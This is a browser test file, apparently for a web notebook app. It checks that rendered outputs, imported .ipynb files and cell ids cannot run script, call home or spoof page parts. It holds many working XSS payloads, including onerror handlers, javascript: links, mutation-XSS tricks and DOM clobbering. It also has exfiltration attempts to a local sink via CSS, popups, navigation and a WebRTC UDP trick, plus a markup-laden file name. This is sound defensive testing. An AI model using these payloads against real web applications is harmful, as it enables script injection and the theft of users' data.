import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { writeFileSync, mkdtempSync } from 'node:fs'
import { createSocket } from 'node:dgram'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Server } from './server.mjs'
import { launch, signIn, connected, newNotebook, run, done, sink } from './browser.mjs'

let browser, server, out
before(async () => { browser = await launch(); server = await Server.start(); out = await sink() })
after(async () => { await browser?.close(); await server?.end(); out?.server.close() })

// Markup that would run, load or call home if anything let it.
const markup = (o) => [
  `<script>top.__pwned=1;parent.__pwned=1;window.__pwned=1;fetch('${o}/s')</script>`,
  `<img src=x onerror="window.__pwned=1;top.__pwned=1">`, `<img src="${o}/img">`, `<svg onload="window.__pwned=1"><use href="${o}/use"/></svg>`,
  `<svg><script>window.__pwned=1</script><foreignObject><iframe srcdoc="<script>top.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<a href="javascript:window.__pwned=1" id=clickme>click</a>`, `<a href=" &#1;java&#10;script:window.__pwned=1">click</a>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`, `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="${o}/obj"></object><embed src="${o}/embed">`, `<link rel=stylesheet href="${o}/css"><style>@import '${o}/import';*{background:url(${o}/bg)}</style>`,
  `<base href="${o}/"><form action="${o}/form"><button id=go>x</button></form>`, `<meta http-equiv=refresh content="0;url=${o}/refresh">`,
  `<video src="${o}/v" poster="${o}/p"></video><audio src="${o}/a"></audio>`, `<details open ontoggle="window.__pwned=1">x</details>`,
  `<input autofocus onfocus="window.__pwned=1">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">`,
  `<form id=body><input name=cookie></form><img name=body><img name=querySelector><a id=cells></a><a id=banner>fake</a>`,
  `<button data-act=restart data-command=run>privileged</button><article id=cell:x class=cell></article>`,
  `<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">`, `<template><script>window.__pwned=1</script></template>`,
  `<p style="position:fixed;inset:0;background:url(${o}/style)">over</p>`, `<x-el onclick=window.__pwned=1>x</x-el><marquee onstart=window.__pwned=1>x</marquee>`,
]

const mimes = ['text/html', 'image/svg+xml', 'text/markdown', 'text/latex', 'application/javascript', 'application/json', 'text/plain',
  'application/vnd.vega.v5+json', 'application/vnd.vegalite.v5+json', 'application/vnd.plotly.v1+json', 'application/vnd.jupyter.widget-view+json',
  'application/x-unknown', 'text/html; charset=utf-8', 'application/pdf', 'image/png', 'application/geo+json']

async function harmless(page) {
  for (const frame of page.frames()) {
    if (frame.url().startsWith(server.origin)) assert.equal(await frame.evaluate(() => window.__pwned), undefined, frame.url())
  }
  assert.deepEqual(out.hits, [], 'requests that left')
  assert.equal(await page.evaluate(() => document.querySelector('#cells') !== null && document.querySelectorAll('[id^="cell:x"]').length), 0, 'ids are not taken over')
  assert.equal(await page.evaluate(() => typeof document.querySelector), 'function')
}

test('no output of any type runs in the page or calls home', async () => {
  const page = await signIn(browser, server)
  page.on('dialog', (d) => { page.faults.push('dialog'); d.dismiss() })
  await newNotebook(page, server)
  const list = JSON.stringify(markup(out.origin))
  for (const mime of mimes) {
    const id = await run(page, `import json
from IPython.display import display
for s in json.loads(${JSON.stringify(list)}):
    v = {'data': [{'y': [1], 'text': [s], 'hovertemplate': s, 'name': s}], 'layout': {'title': {'text': s}, 'images': [{'source': '${out.origin}/plotly'}]}} if 'plotly' in ${JSON.stringify(mime)} else \\
        {'description': s, 'data': {'url': '${out.origin}/vega'}, 'mark': 'point'} if 'vega' in ${JSON.stringify(mime)} else {'k': s} if 'json' in ${JSON.stringify(mime)} else s
    display({${JSON.stringify(mime)}: v}, raw=True)`)
    await done(page, id)
  }
  const id = await run(page, `import json
for s in json.loads(${JSON.stringify(list)}): print(s); print('\\x1b]8;;javascript:window.__pwned=1\\x07link\\x1b]8;;\\x07', '\\x1b[31m' + s)
class E(Exception): pass
E.__name__ = ${JSON.stringify(markup(out.origin)[1])}
open(${JSON.stringify('<img src=x onerror=window.__pwned=1>.txt')}, 'w').write('x')
raise E(${JSON.stringify(markup(out.origin)[0])})`)
  await done(page, id)
  await page.evaluate(async () => { for (const a of document.querySelectorAll('.active')) { a.scrollIntoView(); await new Promise((r) => setTimeout(r, 60)) } })
  await page.waitForTimeout(1500)
  for (const a of await page.locator('article a', { hasText: /^click$/ }).all()) await a.click({ timeout: 1000, noWaitAfter: true }).catch(() => {})
  await harmless(page)
  await page.reload()
  await connected(page)
  await page.waitForTimeout(1500)
  await harmless(page)
  assert.deepEqual(page.faults.filter((f) => !f.startsWith('script:') && !f.includes(out.origin)) /* what a frame wanted to load was refused: the sink saw nothing */, [])
  assert.equal(new URL(page.url()).origin, server.origin)
  await page.context().close()
})

test('an imported notebook cannot run or claim trust', async () => {
  const bad = markup(out.origin)
  const nb = {
    nbformat: 4, nbformat_minor: 5, metadata: { trusted: true, title: bad[1], kernelspec: { name: 'python3', display_name: bad[0], language: 'python' }, language_info: { name: 'python' } },
    cells: [
      ...bad.map((s, i) => ({ id: `m${i}`, cell_type: 'markdown', metadata: { trusted: true }, source: s + `\n\n[x](javascript:window.__pwned=1) ![x](${out.origin}/md) <${out.origin}/auto>`, attachments: { 'a.png': { 'text/html': s } } })),
      ...bad.map((s, i) => ({ id: `c${i}`, cell_type: 'code', metadata: { trusted: true }, execution_count: 1, source: s, outputs: [
        { output_type: 'display_data', metadata: { isolated: false }, data: { 'text/html': [s], 'text/plain': s } },
        { output_type: 'stream', name: 'stdout', text: s }, { output_type: 'error', ename: s, evalue: s, traceback: [s] }] })),
    ],
  }
  const file = join(mkdtempSync(join(tmpdir(), 'sbpw')), '<img src=x onerror=window.__pwned=1>.ipynb')
  writeFileSync(file, JSON.stringify(nb))
  const page = await signIn(browser, server)
  await page.getByTestId('import').click()
  await page.getByTestId('import-file').setInputFiles(file)
  await page.getByTestId('import-go').click()
  await page.waitForURL(/\/n\//)
  await connected(page)
  await page.evaluate(async () => { for (const a of document.querySelectorAll('article')) { a.scrollIntoView(); await new Promise((r) => setTimeout(r, 30)) } })
  await page.waitForTimeout(1000)
  await harmless(page)
  await page.goto(server.origin + '/')
  await page.waitForTimeout(300)
  assert.equal(await page.evaluate(() => window.__pwned), undefined)
  assert.deepEqual(out.hits, [])
  await page.context().close()
})

test('an active output reaches no network, and opens a link only with consent', async () => {
  const page = await signIn(browser, server)
  const packets = []
  const udp = createSocket('udp4').on('message', (m) => packets.push(m.toString('latin1')))
  await new Promise((r) => udp.bind(0, '127.0.0.1', r))
  const peer = `const call = async (w) => { const a = new w.RTCPeerConnection(), b = new w.RTCPeerConnection(); a.createDataChannel('x')
    await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription)
    const sdp = (await b.createAnswer()).sdp.replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:STOLEN'); await a.setRemoteDescription({ type: 'answer', sdp })
    await a.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 ${udp.address().port} typ host', sdpMid: '0', sdpMLineIndex: 0 }) }`
  const html = `<iframe></iframe><template id=tpl><iframe></iframe></template><a id=leave href="${out.origin}/link?STOLEN">a link</a><p id=log></p><script>
    const log = (s) => document.querySelector('#log').append(' ' + s)
    ${peer}
    call(window).catch((e) => log('own:' + e.name))
    const inner = '<script>' + ${JSON.stringify(peer)} + ';call(window)<' + '/script>'
    for (const set of [(f) => { f.srcdoc = inner }, (f) => { f.src = 'data:text/html,' + encodeURIComponent(inner) }, (f) => { f.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })) }, () => {}]) {
      const f = document.createElement('iframe'); set(f); document.body.append(f)
    }
    const attempts = {
      namespaced: () => document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe')),
      html: () => { const d = document.createElement('div'); d.innerHTML = '<iframe></iframe>'; document.body.append(d) },
      adjacent: () => document.body.insertAdjacentHTML('beforeend', '<p><IFRAME>'),
      template: () => { const t = document.createElement('template'); t.innerHTML = '<iframe></iframe>'; document.body.append(t.content.cloneNode(true)) },
      own: () => document.body.append(document.querySelector('#tpl').content.cloneNode(true)),
      fragment: () => document.body.append(document.createRange().createContextualFragment('<iframe></iframe>')),
      parsed: () => document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe'))),
      xml: () => document.body.append(document.adoptNode(new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>', 'text/xml').documentElement)),
      entity: () => document.body.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;iframe xmlns=&#39;http://www.w3.org/1999/xhtml&#39;/>">]><x>&e;</x>', 'text/xml').documentElement)),
      element: () => { class F extends HTMLIFrameElement {}; customElements.define('x-f', F, { extends: 'iframe' }); document.body.append(new F()) },
      object: () => document.body.append(document.createElement('object')),
      unsafe: () => { const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe('<iframe></iframe>') },
    }
    for (const [name, f] of Object.entries(attempts)) {
      try { f() } catch (e) { log(name + ':' + e.name) }
      if (window.length > 0) { log('FRAME ' + name); try { call(window[0]).catch(() => {}) } catch {} }
    }
    log('popup:' + open('${out.origin}/popup?STOLEN'))
    setTimeout(() => document.querySelector('#leave').click(), 200)
    setTimeout(() => log('still here'), 600)
  <\/script>`.replace('<\\/script>', '</' + 'script>')
  await newNotebook(page, server)
  const id = await run(page, `from IPython.display import display, HTML\ndisplay(HTML(${JSON.stringify(html)}))`)
  await done(page, id)
  const frame = page.getByTestId('frame').contentFrame()
  await frame.locator('#log', { hasText: 'still here' }).waitFor()
  const log = await frame.locator('#log').textContent()
  assert.match(log, /popup:null/)
  assert.doesNotMatch(log, /FRAME/)
  await page.waitForTimeout(1500)
  assert.deepEqual(packets, [], 'packets that left')
  assert.equal(await page.getByTestId('dialog').count(), 0, 'a click no person made asks nothing')
  const leaves = await run(page, `from IPython.display import display, HTML\ndisplay(HTML("<script>location.href = '${out.origin}/nav?STOLEN'</" + "script>"))`)
  await page.locator(`[id="${leaves}"]`).getByText('it left its frame').waitFor()
  await frame.locator('#leave').click()
  await page.getByTestId('dialog').getByText('/link?STOLEN').waitFor()
  await page.getByTestId('dialog').getByRole('button', { name: 'Cancel' }).click()
  assert.deepEqual(out.hits, [], 'requests that left')
  await frame.locator('#leave').click()
  const popup = page.context().waitForEvent('page')
  await page.getByTestId('dialog').getByRole('button', { name: 'Open' }).click()
  await (await popup).waitForLoadState().catch(() => {})
  assert.equal(out.hits.length, 1)
  assert.match(String(out.hits[0]), /STOLEN/)
  out.hits.length = 0
  udp.close()
  await page.context().close()
})

// Elements' ids are made of cells' ids, which clients choose.
test('a cell cannot pass for a part of another', async () => {
  const page = await signIn(browser, server)
  await newNotebook(page, server)
  const nb = new URL(page.url()).pathname.split('/').pop()
  const op = (op, args) => page.evaluate(async ([nb, op, args]) => {
    const r = await fetch(`/api/v1/notebooks/${nb}/ops`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ op, args }) })
    if (!r.ok) throw new Error(await r.text())
  }, [nb, op, args])
  await op('cell.insert', { cell: 'victim', source: "print('harmless')" })
  for (const part of ['-src', '-head', '-foot', '-outputs', '-out', '-name']) await op('cell.insert', { cell: 'victim' + part, after: '', kind: 'markdown', source: 'Some notes.' })
  await op('cell.insert', { cell: 'menu', source: '1' })
  await page.reload()
  await connected(page)
  await op('cell.edit', { cell: 'victim', base: 1, source: "print('changed')" })
  await page.locator('[id="cell:victim"]').getByText('changed').waitFor()
  await page.reload()
  await connected(page)
  assert.match(await page.locator('[id="cell:victim"]').textContent(), /changed/)
  const ids = await page.evaluate(() => [...document.querySelectorAll('[id]')].map((e) => e.id))
  assert.deepEqual(ids.filter((id, i) => ids.indexOf(id) !== i), [], 'ids that are there twice')
  await page.context().close()
})
